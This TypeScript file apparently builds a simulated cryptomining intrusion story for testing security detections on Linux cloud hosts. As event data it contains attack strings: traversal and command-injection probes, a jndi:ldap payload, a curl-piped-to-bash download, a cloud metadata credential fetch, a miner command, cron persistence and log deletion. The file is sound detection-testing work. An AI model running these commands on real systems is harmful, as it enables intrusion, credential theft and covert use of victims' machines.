/** Cryptomining on a cloud host after a web application compromise: a download, a hidden miner, cron for persistence. */
import { connected, cronJob, executed, fileChanged, syslog } from '../events/linux.ts';
import { dnsLookup } from '../events/network.ts';
import { webRequest } from '../events/web.ts';
import { type Device, devicesWith } from '../fleet.ts';
import { peopleAt } from '../people.ts';
import { createStoryBuilder, type Story } from './story.ts';

const intruder = '203.0.113.199';
const pool = '192.0.2.199';
const miner = '/var/tmp/.x/kworkerd';

function victimAt(organisationId: number, pick: (list: Device[]) => Device): Device {
  const machines = devicesWith(organisationId, 'cloudMachine');
  return pick(machines.length > 0 ? machines : devicesWith(organisationId, 'webServer'));
}

export const cloudMining: Story = {
  name: 'cloudMining',
  title: 'Crypto-mining in the cloud',
  ending: 'malicious',
  techniques: ['T1190', 'T1059.004', 'T1105', 'T1552.005', 'T1053.003', 'T1496'],
  keyRules: ['linux/download-piped-to-shell', 'linux/crypto-miner', 'linux/crontab-replaced', 'linux/web-server-starts-shell'],
  build(stage) {
    const { site, random } = stage;
    const { on, events } = createStoryBuilder(stage);
    const machine = victimAt(site.organisationId, random.pick);
    const [resolver] = devicesWith(site.organisationId, 'resolver');
    const owner = peopleAt(site.organisationId)[0]!;
    const onMachine = on(machine, owner);
    const inWeb = { user: 'www-data', parent: '/usr/bin/dash', directory: '/var/www/html', terminal: '(none)' };

    const probes = [
      '/.env',
      '/.git/config',
      '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)',
      '/index.php?page=../../../../etc/passwd',
    ];
    probes.forEach((url, index) => {
      onMachine(index * 0.3, (scene) =>
        webRequest(scene, { from: intruder, url, status: 404, bytes: 153, agent: 'Mozilla/5.0 zgrab/0.x' }),
      );
    });
    onMachine(2, (scene) => webRequest(scene, { from: intruder, url: `/?x=$%7Bjndi:ldap://${intruder}:1389/a%7D`, status: 200 }));
    onMachine(3, (scene) => executed(scene, { ...inWeb, executable: '/usr/bin/id', args: ['id'] }));
    onMachine(3.2, (scene) => executed(scene, { ...inWeb, executable: '/usr/bin/uname', args: ['uname', '-a'] }));
    onMachine(4, (scene) =>
      executed(scene, { ...inWeb, executable: '/usr/bin/dash', args: ['sh', '-c', `curl -fsSL http://${intruder}/x.sh | bash`] }),
    );
    onMachine(4.4, (scene) =>
      executed(scene, {
        ...inWeb,
        executable: '/usr/bin/curl',
        args: ['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role'],
      }),
    );
    onMachine(5, (scene) => fileChanged(scene, miner, 'created', 'www-data'));
    onMachine(5.5, (scene) =>
      executed(scene, {
        ...inWeb,
        executable: miner,
        args: [miner, '-o', 'stratum+tcp://pool.coins.example:3333', '-u', '48edfHu7V9Z84YzzMa6fUueo', '--donate-level=1', '-B'],
      }),
    );
    onMachine(5.7, (scene) => connected(scene, { executable: miner, user: 'www-data', to: pool, port: 3333 }));
    onMachine(6, (scene) =>
      syslog(scene, {
        program: 'crontab',
        facility: 'cron',
        pid: random.int(900, 60_000),
        text: '(www-data) REPLACE (www-data)',
      }),
    );
    onMachine(6.5, (scene) =>
      executed(scene, { ...inWeb, user: 'root', executable: '/usr/bin/rm', args: ['rm', '-f', '/var/log/syslog'] }),
    );
    for (let hour = 0; hour < 9; hour++) {
      onMachine(15 + hour * 60, (scene) => cronJob(scene, '(www-data) CMD (/bin/sh /var/tmp/.x/run.sh)'));
      if (resolver)
        on(resolver, owner)(15.2 + hour * 60, (scene) =>
          dnsLookup(scene, { client: machine.ip, name: 'pool.coins.example', answer: pool }),
        );
      onMachine(15.4 + hour * 60, (scene) => connected(scene, { executable: miner, user: 'www-data', to: pool, port: 3333 }));
    }
    return events;
  },
};
